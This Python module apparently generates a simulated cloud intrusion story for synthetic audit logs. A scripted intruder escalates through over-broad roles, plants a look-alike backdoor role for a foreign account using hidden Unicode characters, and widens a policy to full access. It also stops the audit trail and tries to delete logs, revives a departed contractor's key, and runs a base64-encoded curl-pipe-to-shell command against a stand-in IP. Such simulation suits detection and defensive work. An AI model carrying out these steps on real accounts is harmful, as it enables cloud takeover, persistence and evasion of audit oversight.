"""From a developer's key through two roles: what there is to take, and how an intruder takes it."""

from dataclasses import dataclass
from typing import Any

from aktui.simcloud.account import AccessKey, Role, User
from aktui.simcloud.stories import places, rhythm
from aktui.simcloud.stories.access import Access
from aktui.simcloud.stories.atlas import Atlas
from aktui.simcloud.stories.company import Company
from aktui.simcloud.stories.crew import Crew
from aktui.simcloud.stories.intruder import Intruder
from aktui.simcloud.stories.recorder import Actor
from aktui.simcloud.stories.refusals import NO_PERMISSION, no_logs
from aktui.simcloud.stories.takeover import Takeover

_PIPELINES = ("etl-pipeline", "data-pipeline", "report-etl", "dw-loader")
_LOOK_ALIKES = ("AliyunServiceRoleForActionTrai1", "AliyunOSSDataSyncRo1e", "aliyun-support-readonly")
_DORMANT = (
    ("ext.moreau", "Claire Moreau, contractor"),
    ("ext.novak", "Petr Novák (外包)"),
    ("ext.dubois", "Yves Dubois; legal@example"),
)
_COMMAND = "Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi45L2Euc2ggfCBzaA=="
"""Base64, as the parameter wants it: a script fetched and run."""


@dataclass
class Rungs:
    """What the company has that an intruder climbs by."""

    first: Role
    """Developers may take it, and change roles and policies in it."""
    second: Role
    """What a nightly job works with."""
    runner: User
    runner_key: AccessKey
    dormant: User
    """Has no key and no logon any more."""
    machine: User
    """A service account: no logon."""
    look_alike: str
    foreign: str
    """Id of an account that is not the company's."""


def rungs(company: Company, crew: Crew, atlas: Atlas) -> Rungs:
    """Roles, policies and users, as a company that trusts its developers has them."""
    account = company.account
    company.policy(
        "self-service",
        500,
        "研发自助：看角色、改自己的沙箱",
        {"Effect": "Allow", "Action": ["ram:Get*", "ram:List*", "ecs:Describe*"], "Resource": "*"},
        {
            "Effect": "Allow",
            "Action": ["ram:CreateRole", "ram:UpdateRole", "ram:CreatePolicyVersion", "sts:AssumeRole"],
            "Resource": "*",
        },
    )
    company.policy(
        "keep-the-logs",
        480,
        "Nobody deletes logs",
        {"Effect": "Deny", "Action": ["log:DeleteLogStore", "log:DeleteProject"], "Resource": "*"},
    )
    company.policy(
        "assume-self-service",
        500,
        "Developers may take the role of self-service",
        {"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": "acs:ram:*:*:role/dev-self-service"},
    )
    company.policy(
        "pipeline-scope",
        470,
        "夜间任务读库读桶",
        {"Effect": "Allow", "Action": ["oss:Get*", "oss:List*", "rds:Describe*"], "Resource": "*"},
    )
    company.attach(
        account.groups["developers"], company.ago(499), "assume-self-service", "AliyunCSReadOnlyAccess"
    )
    guards = ("deny-billing-and-audit", "keep-the-logs")
    everyone = {"RAM": [f"acs:ram::{account.id}:root"]}
    first = company.role("dev-self-service", 499, "研发自助", everyone, "self-service", *guards)
    runner = company.user("etl-runner", "夜间抽数", 465, comments="nightly extracts, team data")
    company.attach(runner, runner.created, "AliyunSTSAssumeRoleAccess")
    trusted = {"RAM": [f"acs:ram::{account.id}:user/etl-runner"]}
    pipeline = atlas.rng.choice(_PIPELINES)
    second = company.role(pipeline, 464, "Nightly extracts", trusted, "pipeline-scope", *guards)
    name, display = atlas.rng.choice(_DORMANT)
    dormant = company.user(name, display, 620, "developers", comments="外包，去年离场")
    company.key(dormant, 610, "Inactive", changed=300)
    foreign = "1" + "".join(atlas.rng.choices("0123456789", k=15))
    return Rungs(
        first,
        second,
        runner,
        company.key(runner, 464),
        dormant,
        crew.machines["legacy-cron"][0],
        atlas.rng.choice(_LOOK_ALIKES),
        foreign,
    )


def nightly(company: Company, found: Rungs, host: str, bucket: str) -> None:
    """The job that the second role is for."""
    actor = company.book.user(found.runner, found.runner_key, host, places.PYTHON)
    region, last = company.account.region, rhythm.full_hour(company.now).timestamp() - 3600
    for when in rhythm.nightly(company.ago(90), company.now, 3):
        if when > last:
            continue
        session = company.book.assume(actor, found.second, "nightly", when, region)
        company.book.call(session, "Rds:DescribeDBInstances", when + 4, region)
        for part in range(3):
            about = Access(bucket, f"exports/{rhythm.day(when)}/part-{part:05}.parquet", 4_000_000 + part)
            company.data_book.call(session, "Oss:GetObject", when + 9 + part, region, data=True, about=about)


class Chain:
    """The climb of one intruder; what it made is in its loot."""

    def __init__(self, intruder: Intruder, found: Rungs) -> None:
        self.by, self.found, self.take = intruder, found, Takeover(intruder)

    def probe(self, refused: tuple[Role, ...]) -> None:
        """What the key may do by itself: not much."""
        by = self.by
        by.do("Sts:GetCallerIdentity", request={})
        by.try_all("Ram:ListUsers", "Ram:ListRoles", "Ims:GetAccountSummary", error=NO_PERMISSION)
        by.do("Ecs:DescribeInstances")
        by.do("Rds:DescribeDBInstances")
        by.do("Sls:ListProject")
        for role in refused:
            arn = f"acs:ram::{by.company.account.id}:role/{role.name.lower()}"
            asked = {"RoleArn": arn, "RoleSessionName": "test"}
            touched = {"ACS::RAM::Role": [role.name]}
            by.do("Sts:AssumeRole", request=asked, resources=touched, error=NO_PERMISSION)

    def climb(self) -> tuple[Role, Actor]:
        """Into the first role; a role for a foreign account; the second role opened, widened, taken."""
        by, found, take = self.by, self.found, self.take
        account = by.company.account
        first = by.take_role(found.first, "dev-cli")
        for name in ("Ram:ListRoles", "Ram:ListPolicies", "Ram:ListUsers"):
            by.do(name, actor=first, request={})
        touched = {"ACS::RAM::Role": [found.second.name]}
        by.do("Ram:GetRole", actor=first, request={"RoleName": found.second.name}, resources=touched)
        door = take.make_role(
            found.look_alike,
            "Don't delete: used by 操作审计 \u2066\u2067",
            {"RAM": [f"acs:ram::{found.foreign}:root"]},
            first,
        )
        self.refused(first, "Ram:AttachPolicyToRole", {"RoleName": door.name})
        take.change_trust(found.second, {"RAM": [f"acs:ram::{account.id}:role/{found.first.name}"]}, first)
        everything = {"Effect": "Allow", "Action": "*", "Resource": "*"}
        take.widen(account.policies["Custom", "pipeline-scope"], everything, actor=first)
        self.blind(first)
        return door, by.take_role(found.second, "pipeline-run", first)

    def refused(self, actor: Actor, name: str, request: dict[str, Any]) -> None:
        self.by.do(name, actor=actor, request=request, error=NO_PERMISSION)

    def blind(self, actor: Actor) -> None:
        """Trail and logs: policies deny it, in either role."""
        by = self.by
        by.stop_trail(actor)
        project = f"{by.company.account.alias}-audit"
        asked = {"ProjectName": project, "LogStoreName": "actiontrail_all-events"}
        things = {"ACS::SLS::Project": [project]}
        error = no_logs("log:DeleteLogStore")
        by.do("Sls:DeleteLogStore", actor=actor, request=asked, resources=things, error=error)

    def settle(self, door: Role, second: Actor) -> AccessKey:
        """Rights for the foreign account's role, a key for somebody who left, a logon for a machine."""
        take, found = self.take, self.found
        take.attach(door, "AdministratorAccess", second)
        key = take.make_key(found.dormant, second)
        take.join(found.dormant, "admins", second)
        take.make_login(found.machine, second)
        self.blind(second)
        return key

    def command(self, actor: Actor, instances: list[str]) -> None:
        """A script run on machines."""
        for instance in instances:
            touched = {"ACS::ECS::Instance": [instance]}
            asked = {"Type": "RunShellScript", "CommandContent": _COMMAND, "InstanceId.1": instance}
            self.by.do("Ecs:RunCommand", actor=actor, request=asked, resources=touched)
            self.by.do("Ecs:DescribeInvocationResults", actor=actor, resources=touched)
            self.by.loot.add("commands", {"instance": instance})

    def from_abroad(self, door: Role, ip: str, agent: str) -> Actor:
        """A session of the role that trusts the foreign account.

        It is opened there, with keys that this account does not know; that its trail has no AssumeRole of
        it is assumed.
        """
        by = self.by
        actor = by.book.session(door, "support", by.company.ids.sts_key(), ip, agent)
        opened = {"role": door.name, "session": "support", "access_key_id": actor.identity["accessKeyId"]}
        by.loot.sessions.append({**opened, "opened_by": f"acs:ram::{self.found.foreign}:root"})
        return actor
